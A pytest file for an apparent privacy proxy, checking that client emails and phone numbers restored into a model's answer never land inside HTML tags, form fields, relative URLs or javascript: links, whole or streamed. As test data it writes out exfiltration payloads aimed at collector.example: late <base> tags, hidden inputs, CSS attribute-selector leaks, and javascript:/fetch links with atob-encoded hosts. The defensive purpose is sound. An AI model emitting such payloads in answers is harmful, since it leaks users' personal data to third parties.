"""Restore writes no client value inside an HTML tag, a form field, a relative URL or a `javascript:` URL, whole or
streamed, whatever else the answer holds (issue 12, atk12 A H1, M1, M2).

The client sends its address; the provider sees `<EMAIL_ADDRESS_1>`. The model answers
`<img src="badge.png?u=<EMAIL_ADDRESS_1>"> ... <base href="https://collector.example/">`: whole, the `<base>` kept the
placeholder; streamed, the `<base>` came two sentences later and the value had gone out (H1). A `<base>` in tool-call
arguments, another choice or an earlier turn was not read at all (M1). And `<input type="hidden" value="...">` in a
form posting to a third party, a `<textarea>`, `<button formaction value>`, an attribute next to model CSS
(`[data-u^="j"]{background:url(...)}`) or a `javascript:` link got the value (M2). A stream cannot take back what it
sent, and a `<base>` or a `<style>` may come later in the stream, in another block or in another turn of the page: so
the rule holds for every answer, with or without them.
"""

from __future__ import annotations

import asyncio
import json

import pytest

from proxy.config.policy import Policy
from proxy.guard.engine import Guard
from proxy.guard.urls import url_context
from proxy.guard.vault import Vault

MAIL = "maria.lopez@example.org"
PHONE = "212-555-0199"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
RESTORE_ONLY = Policy.model_validate({"name": "restore", "input": {"pii": {"restore": True}}})


def vault() -> Vault:
    v = Vault()
    assert v.placeholder("EMAIL_ADDRESS", MAIL) == E
    assert v.placeholder("PHONE_NUMBER", PHONE) == P
    return v


def stream(v: Vault, fragments: list[str], in_json: bool = False) -> str:
    windows = Guard().output_stream(RESTORE_ONLY, v)

    async def run() -> list[str]:
        out = [await windows.feed("c", f, in_json) for f in fragments]
        return [*out, await windows.end("c")]

    return "".join(asyncio.run(run()))


def chunks(text: str, size: int) -> list[str]:
    return [text[i:i + size] for i in range(0, len(text), size)]


# Relative URLs a later `<base>` or `xml:base` sends to a third party (H1, M1).
RELATIVE = {
    "markdown image": "![badge](img/b.png?u={V})",
    "markdown link": "[open](profile?id={V}&x=1)",
    "html img": '<img alt="b" src="img/b.png?u={V}">',
    "html img unquoted": "<IMG SRC=img/b.png?u={V} width=4>",
    "svg image": '<svg width="9"><image href="b.svg?u={V}" /></svg>',
    "srcset": "<picture><source srcset='a.png 1x, b.png?t={V} 2x'></picture>",
    "reference definition": "![b][r]\n\n[r]: img/b.png?u={V}\n",
    "target is the value": "[me]({V})",
    "target starts with the value": "![me]( {V}/b.png)",
    "reference is the value": "[me][r]\n\n[r]: {V}\n",
    "style attribute": "<span style=\"background-image:url(b.png?u={V})\">x</span>",
    "style element": "<style>.x{{background:url(b.png?u={V})}}</style>",
}
LATE = {"base": '<base href="https://collector.example/">', "xml:base": '<svg xml:base="//collector.example/"></svg>',
        "none": ""}


@pytest.mark.parametrize("late", LATE.values(), ids=LATE.keys())
@pytest.mark.parametrize("shape", RELATIVE.values(), ids=RELATIVE.keys())
def test_relative_url_kept_whole(shape: str, late: str) -> None:
    for value in (E, P):
        text = f"Here you go. {shape.format(V=value)} Looks fine. Mail {E}, call {P}. {late}"
        assert vault().restore(text) == f"Here you go. {shape.format(V=value)} Looks fine. Mail {MAIL}, " \
                                        f"call {PHONE}. {late}"


@pytest.mark.parametrize("size", [1, 6, 17, 10_000])
@pytest.mark.parametrize("late", ["base", "xml:base"])
@pytest.mark.parametrize("shape", RELATIVE.values(), ids=RELATIVE.keys())
def test_relative_url_kept_in_a_stream_with_a_late_base(shape: str, late: str, size: int) -> None:
    """The base two or more sentences (and chunks) after the URL: the stream had sent the value before it came."""
    text = (f"Here you go. {shape.format(V=E)} It looks great. More text here. And a bit more. Almost done, "
            f"mail {E}. {LATE[late]}")
    assert stream(vault(), chunks(text, size)) == text.replace(f"mail {E}", f"mail {MAIL}")


# Form fields a one-click submit sends (to a third-party `action`/`formaction`), attributes model CSS reads with
# attribute selectors (no click), and `javascript:` links (M2).
FIELDS = {
    "hidden input": '<form action="https://collector.example/c"><input type="hidden" name="u" value="{V}">'
                    "<button>Verify</button></form>",
    "input form attribute": '<form id="f" action="//collector.example/c"></form><input form="f" name="u" value="{V}">',
    "textarea": '<form method="post" action="https://collector.example/c"><textarea name="u">Hi {V}</textarea></form>',
    "textarea upper case": "<TEXTAREA NAME=u>\n{V}\n</TEXTAREA >",
    "option": "<form action=https://collector.example/c><select name=u><option selected>{V}<option>x</select></form>",
    "option after a less than sign": "<select name=u><option>1 < 2 {V}</select>",
    "textarea after a look-alike end": "<textarea name=u></textareas {V}</textarea>",
    "button formaction": '<form><button formaction="https://collector.example/c" name="u" value="{V}">Go</button>'
                         "</form>",
    "css selector on value": '<style>input[value^="m"]{{background:url(https://collector.example/m)}}</style>'
                             '<input value="{V}" readonly>',
    "css selector on data": '<div data-u="{V}"></div><style>[data-u*="example.org"]'
                            "{{background:url(https://collector.example/d)}}</style>",
    "css selector on title": "<abbr title='{V}'>me</abbr>",
    "alt text": '<img src="https://docs.example/a.png" alt="photo of {V}">',
    "unquoted value with a placeholder": "<input name=u value={V} readonly>",
    "tag across lines": '<input\n  type="text"\n  value="{V}"\n>',
    "javascript link": "[Verify](javascript:open(atob('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS8/dT0=')+'{V}'))",
    "javascript autolink": "<javascript:location='//collector.example/?'+'{V}'>",
    "javascript in href": "<a href=\"JavaScript:void(fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUv')+'{V}'))\">go</a>",
    "markdown title": '[docs](https://docs.example/ "for {V}")',
    "markdown title angled": "[docs](<https://docs.example/a b> 'for {V}')",
    "reference title": '\n\n[d]: https://docs.example/\n  (for {V})\n',
    "markdown image alt": "![badge of {V}](https://docs.example/b.png)",
}


@pytest.mark.parametrize("shape", FIELDS.values(), ids=FIELDS.keys())
def test_form_fields_attributes_and_scripts_kept_whole(shape: str) -> None:
    for value in (E, P):
        text = f"Please check. {shape.format(V=value)} Then mail {E} or call {P}."
        assert vault().restore(text) == f"Please check. {shape.format(V=value)} Then mail {MAIL} or call {PHONE}."


@pytest.mark.parametrize("size", [1, 5, 23])
@pytest.mark.parametrize("shape", FIELDS.values(), ids=FIELDS.keys())
def test_form_fields_attributes_and_scripts_kept_streamed(shape: str, size: int) -> None:
    text = f"Please check. {shape.format(V=E)} Then mail {E}."
    assert stream(vault(), chunks(text, size)) == text.replace(f"mail {E}", f"mail {MAIL}")


def test_tool_arguments_html_kept_streamed_and_whole() -> None:
    """A JSON document's HTML (escaped quotes): the tag's values kept, the plain field restored."""
    args = json.dumps({"html": f'<base href="https://collector.example/"><img src="b.png?u={E}">',
                       "form": f"<input type=hidden value='{P}'>", "to": E})
    want = {"html": f'<base href="https://collector.example/"><img src="b.png?u={E}">',
            "form": f"<input type=hidden value='{P}'>", "to": MAIL}
    assert json.loads(vault().restore(args, in_json=True)) == want
    for size in (1, 4, 11):
        assert json.loads(stream(vault(), chunks(args, size), in_json=True)) == want


def test_a_long_tag_keeps_its_quote_across_chunks() -> None:
    """A tag longer than the stream keeps of it: a `>` inside its open quoted value does not end it."""
    pad = "a" * 6000
    text = f'<input title="{pad} > {E}" value=x> mail {E}. <textarea>{pad} {E}</textarea> {E}'
    got = stream(vault(), chunks(text, 700))
    assert got == f'<input title="{pad} > {E}" value=x> mail {MAIL}. <textarea>{pad} {E}</textarea> {MAIL}'
    assert len(url_context(f'<input title="{pad}')) < 600
    assert len(url_context(f"<textarea>{pad}")) < 600


# What restore still puts back: prose, Markdown without URLs, code, text between tags, mailto links.
ORDINARY = {
    "prose": "Thanks! I will mail {E} today and call {P} tomorrow.",
    "markdown": "**Contact**\n\n- Email: {E}\n- Phone: `{P}`\n\n| who | mail |\n|---|---|\n| you | {E} |",
    "markdown link text": "[{E}](mailto:{E}) or [call]({P_TEL})",
    "code": "```python\nsend(to=\"{E}\", data=\"{P}\")\nfor i in range(n):\n    if i<n and x>0: print(\"{E}\")\n```",
    "generics and comparisons": "List<String> to = List.of(\"{E}\"); if (a<b && c > d) call(\"{P}\");",
    "c loop": "for (i = 0; i<n; i++) {{ notify(\"{E}\"); }}",
    "between tags": "<p>Mail <b>{E}</b></p><table><tr><td>{P}</td></tr></table>",
    "after a closed tag": '<img src="https://docs.example/a.png" alt="chart"> Your address: {E}.',
    "after a textarea": "<textarea>notes</textarea> {E}",
    "html comment": "<!-- note --> {E}",
    "an image alt left open, then a paragraph": "Use vec![1, 2 or ![ here\n\nMail {E}.",
    "less than signs": "if a < b then {E}; x<5, y<=z, i<n; {P}",
    "markdown reference with a title": "[docs]: https://docs.example/ \"Docs\"\n\nMail {E}.",
}


@pytest.mark.parametrize("shape", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_answers_are_restored(shape: str) -> None:
    text = shape.format(E=E, P=P, P_TEL=f"tel:{P}")
    want = shape.format(E=MAIL, P=PHONE, P_TEL=f"tel:{PHONE}")
    assert vault().restore(text) == want
    assert stream(vault(), chunks(text, 3)) == want


def test_a_relative_url_the_client_sent_is_still_kept() -> None:
    """The client's own relative URL is no exception: a `<base>` from the model sends it to a third party."""
    from proxy.guard.checks.base import Finding
    from proxy.guard.rewrite import apply_findings

    v = Vault()
    sent = f"My page is [me](/users/{MAIL}) and https://crm.example/u?e={MAIL}"
    at = [sent.index(MAIL), sent.rindex(MAIL)]
    apply_findings(sent, [Finding("pii", "EMAIL_ADDRESS", "redact", a, a + len(MAIL)) for a in at], v)
    answer = f'![me](/users/{E}) <base href="https://collector.example/"> https://crm.example/u?e={E}'
    assert v.restore(answer) == f'![me](/users/{E}) <base href="https://collector.example/"> ' \
                                f"https://crm.example/u?e={MAIL}"
